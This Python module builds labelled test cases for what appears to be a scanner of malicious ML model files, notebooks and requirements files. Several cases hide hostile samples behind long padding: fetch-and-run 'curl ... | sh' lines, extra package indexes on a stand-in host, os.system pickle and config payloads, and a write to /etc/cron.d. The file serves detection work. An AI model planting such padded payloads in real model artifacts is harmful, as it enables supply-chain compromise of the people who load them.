"""Attacks below more of something harmless than a reader might look at."""

import base64
import json
from collections.abc import Iterator

from assets.models import safetensors
from assets.models.archives import zipped
from assets.models.case import Case, one
from assets.models.tensorflow import constant, graph, node, saved

_COMMENTS = "# a comment line that says nothing at all\n" * 28_000
_OFFICIAL = "".join(f"--extra-index-url https://download.pytorch.org/whl/cu{number}\n" for number in range(100, 130))
_EVIL = "--extra-index-url http://c.example/simple\ntorch==2.0\n"
_LARGE = (7 << 20).to_bytes(4, "little") + bytes(7 << 20)
_FETCHES = "curl http://localhost/x | sh"


def _documents() -> Iterator[tuple[str, object, str]]:
    definition = {"name": "x", "node_def": " " * 20_001 + '{"name":"a","op":"PyFunc"}'}
    layer = {"class_name": "TensorFlowOpLayer", "config": definition, "inbound_nodes": []}
    yield "node-of-a-layer", layer, "keras-tensorflow-operation"
    packages = ["a==1"] * 1001 + ["x @ git+https://c.example/x"]
    yield "dependencies", {"dependencies": packages}, "requirements-foreign-source"
    yield "spaces-before-a-package", {"pip": [" " * 3000 + "git+https://c.example/x"]}, "requirements-foreign-source"
    yield "command", {"postCreateCommand": " " * 10_001 + _FETCHES}, "shell-script-attacks"
    yield "address", {"command": f"curl http://localhost/x?{'a' * 3000} | sh"}, "shell-script-attacks"
    attack = "__import__('os').system('id')"
    yield "expression", {"run": "$" + "(" * 3 + " " * 20_000 + attack + ")" * 3}, "config-evaluated-code"
    yield "expressions", {"run": ["$1"] * 2000 + [f"${attack}"]}, "config-evaluated-code"
    yield "class", {"class_name": " " * 20_000 + attack}, "config-evaluated-code"
    layers = {"backbone": [[-1, 1, "Conv", [64]]] * 10_001 + [[-1, 1, attack, []]], "head": []}
    yield "layers", layers, "config-evaluated-code"
    arguments = {"backbone": [[-1, 1, "Conv", [1] * 101 + [attack]]], "head": []}
    yield "arguments", arguments, "config-evaluated-code"
    yield "name", {"fn": "torch." + "a." * 120 + "os.system"}, "document-names-callable"
    modules = {"custom_imports": {"imports": ["mmdet.models"] * 101 + ["pty"]}}
    yield "modules", modules, "config-imports-module"
    yield "libraries", {"custom_ops_library": ["x.so"] * 101 + ["/tmp/x.so"]}, "serving-foreign-file"
    yield "words", {"command": ["true;"] * 200 + [_FETCHES]}, "shell-script-attacks"


def _archive(requirements: str) -> bytes:
    model = {"modelName": "m", "handler": "text_classifier", "modelVersion": "1.0", "requirementsFile": "r.txt"}
    manifest = {"runtime": "python", "model": model, "archiverVersion": "0.12.0"}
    return zipped({"MAR-INF/MANIFEST.json": json.dumps(manifest).encode(), "r.txt": requirements.encode()})


def _files() -> Iterator[tuple[str, bytes, str, str]]:
    consts = [constant(f"c{index}", "x") for index in range(100_001)]
    written = saved(graph(*consts, constant("path", "/etc/cron.d/evil"), node("SaveV2", "path")))
    yield "constants", written, "tensorflow-path", "saved_model.pb"
    yield "indexes", (_OFFICIAL + _EVIL).encode(), "requirements-foreign-source", "requirements.txt"
    yield "index-below-comments", (_COMMENTS + _EVIL).encode(), "requirements-foreign-source", "requirements.txt"
    below = ("torch==2.0\n" * 110_000 + _EVIL).encode()
    yield "index-below-packages", below, "requirements-foreign-source", "requirements.txt"
    shortened = b"--extra-index http://c.example/simple\ntorch==2.0\n"
    yield "option-cut-short", shortened, "requirements-foreign-source", "requirements.txt"
    named = ("FROM llama3\n" * 21 + 'FROM /tmp/x.gguf\nTEMPLATE """{{ .Prompt }}"""\n').encode()
    yield "directives", named, "directive-loads-elsewhere", "Modelfile"
    yield "packages-of-an-archive", _archive(_COMMENTS + _EVIL), "mar-packages", "x.mar"
    program = "# " + "x" * 30_000 + "\nimport os\nos.system('id')\n"
    metadata = safetensors.file({"__metadata__": {"notes": program}})
    yield "metadata", metadata, "safetensors-metadata-code", "model.safetensors"
    pickled = base64.b64encode(b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c\x02id\x85R0B" + _LARGE + b".").decode()
    yield "serialised", json.dumps({"policy": pickled}).encode(), "pickle-dangerous-import", "data.json"
    metadata = safetensors.file({"__metadata__": {"notes": pickled}})
    yield "serialised-metadata", metadata, "safetensors-metadata-code", "notes.safetensors"
    page = b"<html><body>" + b"x" * 9_000_000 + b"<script>x()</script></body></html>"
    yield "page", page, "markup-page-script", "a.html"


def _notebook(source: str) -> bytes:
    cell = {"cell_type": "code", "source": source, "metadata": {}, "outputs": [], "execution_count": None}
    return json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


def _cells() -> Iterator[tuple[str, str]]:
    """Cells of notebooks with lines that Python cannot parse, and that attack."""
    attack = "import os\nos.system('id')\n"
    yield "shell-assigned", f"{attack}files = !ls\n"
    yield "help", f"{attack}?os\n"
    yield "help-behind", f"{attack}os??\n"
    yield "shell-in-a-block", f"{attack}if True:\n    !ls\n"
    yield "shell-continued", f"!pip install \\\n  torch\n{attack}"
    yield "not-python", f"{attack}print 'x'\n"
    yield "not-python-by-another-name", "from os import system as s\ns('id')\nprint 'x'\n"
    yield "fetched", f"files = !{_FETCHES}\n"
    yield "shell-cell", f"%%bash\necho x\n{_FETCHES}\n"
    yield "script-cell", f"%%script bash\n{_FETCHES}\n"
    yield "interactive", f"get_ipython().system('{_FETCHES}')\n"
    yield "interactive-made", "x = input()\nget_ipython().system(x)\n"
    yield "interactive-magic", f"get_ipython().run_cell_magic('bash', '', '{_FETCHES}')\n"
    yield "run-from-outside", "%run /tmp/x.py\n"
    yield "run-fetched", "%run -i http://c.example/x.py\n"


def _ordinary() -> Iterator[tuple[str, str]]:
    yield (
        "commands",
        "files = !ls\n!pip install \\\n  torch\n%matplotlib inline\n?print\nfor f in files:\n    !echo $f\n",
    )
    yield (
        "converted",
        "get_ipython().system('pip install torch')\nget_ipython().run_line_magic('matplotlib', 'inline')\n",
    )
    yield "run", "%run utils.ipynb\n"
    yield "python-2", "print 'Hello'\nmodel = <your model>\n"
    yield "shell", "%%bash\nnvidia-smi\npip list | grep torch\n"
    yield "timed", "%%time\nx = [1,\n  2]\ny = 5 \\\n  %3\n"


def cases() -> Iterator[Case]:
    why = "what is below padding counts, too"
    for name, document, rule in _documents():
        yield one(f"padding/{name}", "malicious", json.dumps(document).encode(), why, rule, file="model.json")
    for name, content, rule, file in _files():
        yield one(f"padding/{name}", "malicious", content, why, rule, file=file)
    for name, source in _cells():
        yield one(f"notebooks/{name}", "malicious", _notebook(source), "a cell that attacks", file="x.ipynb")
    for name, source in _ordinary():
        yield one(f"notebooks/{name}", "benign", _notebook(source), "an ordinary cell", file="x.ipynb")
    endless = json.dumps({"run": "$" + "1+" * 150_000 + "1"}).encode()
    why = "an expression too long for a tree of it"
    yield one("padding/endless", "unknown", endless, why, "limit-reached", file="model.json")
    dashes = b"-" * 200_000 + b"\n" + b"a" * 200_000 + b"\n"
    yield one("padding/dashes", "benign", dashes, "a line across a page", file="notes.txt")
